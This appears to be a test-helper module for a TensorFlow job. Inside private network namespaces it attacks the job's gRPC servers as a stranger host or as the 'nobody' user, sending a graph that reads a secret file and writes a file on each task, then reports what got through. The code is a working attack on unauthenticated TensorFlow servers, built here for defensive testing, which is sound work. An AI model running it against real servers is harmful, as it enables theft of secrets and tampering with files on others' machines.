"""Real attacks on a job's TensorFlow servers, for the closing tests.

A TensorFlow server runs any graph sent to its port. The attack is what a
stranger would do: a plain `tf.compat.v1.Session("grpc://HOST:PORT")`
with `tf.io.read_file` of a secret and `tf.io.write_file` of a new file,
pinned to each task (`/job:worker/replica:0/task:0` ...), as the job's
user in the job's process when it gets through.

Where the attacker stands (root, Linux, iproute2; every address on links
this module made and removes, in namespaces of its own):

- `JobHost`: a network namespace standing for the job's machine (the job
  is launched in it with `exec_prefix`), joined by a veth pair to an
  attacker's namespace: another host on the job's network, over IPv4
  (10.79.N.1) and IPv6 (fd79:0:0:N::1).
- `as_user(...)`: another local user (`nobody`, via setpriv) on the job's
  machine, over 127.0.0.1 and [::1].

`python -m tests.helpers.attacks --targets JSON --secret PATH --drop DIR`
runs the attacks and prints one JSON line: for each target, what was read
and written (`{"target": ..., "read": "..." or null, "wrote": bool,
"error": ...}`).
"""

import json
import os
import re
import shutil
import subprocess
import sys
import threading

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__))))
NOBODY = 65534
# How long one attempt may take: a dropped port never answers.
ATTEMPT_SECONDS = 5


def available():
  """None when the attacks can be staged here, else why not."""
  if os.geteuid() != 0:
    return "the attackers' namespaces and users need root (CI is root)"
  for tool in ("ip", "setpriv"):
    if shutil.which(tool) is None:
      return f"{tool!r} is not installed"
  return None


def _run(*command, check=True):
  result = subprocess.run(command, capture_output=True, text=True)
  if check and result.returncode != 0:
    raise RuntimeError(f"{' '.join(command)}: {result.stderr.strip()}")
  return result


class JobHost:
  """Two namespaces of this test's own on one private veth link: the job's
  host and an attacker's host. Removed on exit, whatever happened."""

  def __init__(self):
    # The whole process id in every name (at most 11 characters, under
    # the 15 of a link's): a run killed before its cleanup is told by it.
    tag = os.getpid()
    net = tag % 250 + 1
    self.host, self.attacker = f"eajh{tag}", f"eaat{tag}"
    self.host_v4, self.attacker_v4 = f"10.79.{net}.1", f"10.79.{net}.2"
    self.host_v6, self.attacker_v6 = f"fd79:0:0:{net}::1", f"fd79:0:0:{net}::2"
    self._links = (f"eajv{tag}", f"eaav{tag}")

  def __enter__(self):
    try:
      self.up()
    except BaseException:
      self.down()
      raise
    return self

  def __exit__(self, *exc_info):
    self.down()

  def up(self):
    remove_leftovers()
    host_link, attacker_link = self._links
    for name in (self.host, self.attacker):
      _run("ip", "netns", "add", name)
      _run("ip", "-n", name, "link", "set", "lo", "up")
    _run("ip", "link", "add", host_link, "netns", self.host, "type", "veth",
         "peer", "name", attacker_link, "netns", self.attacker)
    for name, link, v4, v6 in (
        (self.host, host_link, self.host_v4, self.host_v6),
        (self.attacker, attacker_link, self.attacker_v4, self.attacker_v6)):
      _run("ip", "-n", name, "addr", "add", f"{v4}/24", "dev", link)
      _run("ip", "-n", name, "-6", "addr", "add", f"{v6}/64", "dev", link,
           "nodad")
      _run("ip", "-n", name, "link", "set", link, "up")

  def down(self):
    for name in (self.host, self.attacker):
      _run("ip", "netns", "del", name, check=False)

  def exec_prefix(self, name=None):
    return ["ip", "netns", "exec", name or self.host]

  def from_attacker(self, ports, tasks, secret, drop, timeout=90):
    """Attacks every port from the attacker's host over IPv4 and IPv6."""
    targets = [{"address": f"{address}:{port}", "task": task}
               for address in (self.host_v4, f"[{self.host_v6}]")
               for port, task in zip(ports, tasks)]
    return attack(targets, secret, drop, self.exec_prefix(self.attacker),
                  timeout=timeout)

  def from_local_user(self, ports, tasks, secret, drop, timeout=90):
    """Attacks every port as `nobody` on the job's host, over 127.0.0.1 and
    [::1]."""
    return attack(local_targets(ports, tasks), secret, drop,
                  self.exec_prefix() + as_user(), timeout=timeout)


def remove_leftovers():
  """Deletes the namespaces of JobHosts whose process is gone (a test run
  killed before its cleanup); returns their names."""
  removed = []
  listing = _run("ip", "netns", "list", check=False).stdout
  for line in listing.splitlines():
    name = line.split()[0] if line.strip() else ""
    match = re.fullmatch(r"ea(?:jh|at)(\d+)", name)
    if match and not os.path.exists(f"/proc/{match.group(1)}"):
      _run("ip", "netns", "del", name, check=False)
      removed.append(name)
  return removed


def local_targets(ports, tasks):
  return [{"address": f"{address}:{port}", "task": task}
          for address in ("127.0.0.1", "[::1]")
          for port, task in zip(ports, tasks)]


def as_user(uid=NOBODY):
  return ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]


def attack(targets, secret, drop, prefix=(), timeout=90):
  """Runs the attacks from behind `prefix`; returns their results (a list
  of dicts, one per target)."""
  command = list(prefix) + [
      sys.executable, "-m", "tests.helpers.attacks", "--targets",
      json.dumps(targets), "--secret", secret, "--drop", drop]
  env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3", PYTHONPATH=ROOT,
             CUDA_VISIBLE_DEVICES="")
  env.pop("TF_CONFIG", None)
  result = subprocess.run(command, capture_output=True, text=True,
                          timeout=timeout, cwd="/", env=env)
  lines = [line for line in result.stdout.splitlines()
           if line.startswith("[")]
  if result.returncode != 0 or not lines:
    raise RuntimeError(f"the attack did not run (exit {result.returncode}):"
                       f" {result.stderr[-2000:]}")
  return json.loads(lines[-1])


def _one(target, secret, drop, index):
  """One attack: read `secret` and write a file into `drop` on the task."""
  import tensorflow as tf

  job, task = target["task"].split(":")
  device = f"/job:{job}/replica:0/task:{task}"
  written = os.path.join(drop, f"attack_{index}")
  graph = tf.Graph()
  with graph.as_default(), tf.device(device):
    read = tf.io.read_file(secret)
    write = tf.io.write_file(written, tf.constant("attacked"))
  config = tf.compat.v1.ConfigProto(
      operation_timeout_in_ms=ATTEMPT_SECONDS * 1000)
  result = {"target": f"{target['address']} {device}", "read": None,
            "wrote": False, "error": None}
  try:
    with tf.compat.v1.Session(f"grpc://{target['address']}", graph=graph,
                              config=config) as session:
      result["read"] = session.run(read).decode(errors="replace")
      session.run(write)
  except Exception as error:  # noqa: BLE001 (any failure: nothing got in)
    result["error"] = f"{type(error).__name__}: {str(error)[:200]}"
  result["wrote"] = os.path.exists(written)
  return result


def main(argv):
  import argparse

  parser = argparse.ArgumentParser()
  parser.add_argument("--targets", required=True)
  parser.add_argument("--secret", required=True)
  parser.add_argument("--drop", required=True)
  args = parser.parse_args(argv)
  targets = json.loads(args.targets)
  results = [None] * len(targets)

  def run(index):
    results[index] = _one(targets[index], args.secret, args.drop, index)

  threads = [threading.Thread(target=run, args=(i,), daemon=True)
             for i in range(len(targets))]
  for thread in threads:
    thread.start()
  for thread in threads:
    thread.join(ATTEMPT_SECONDS * 3)
  for index, target in enumerate(targets):
    if results[index] is None:  # still waiting on a port that never answers
      written = os.path.join(args.drop, f"attack_{index}")
      results[index] = {"target": target["address"], "read": None,
                        "wrote": os.path.exists(written),
                        "error": "no answer"}
  print(json.dumps(results), flush=True)
  os._exit(0)  # threads stuck in TensorFlow's calls do not hold the exit


if __name__ == "__main__":
  main(sys.argv[1:])
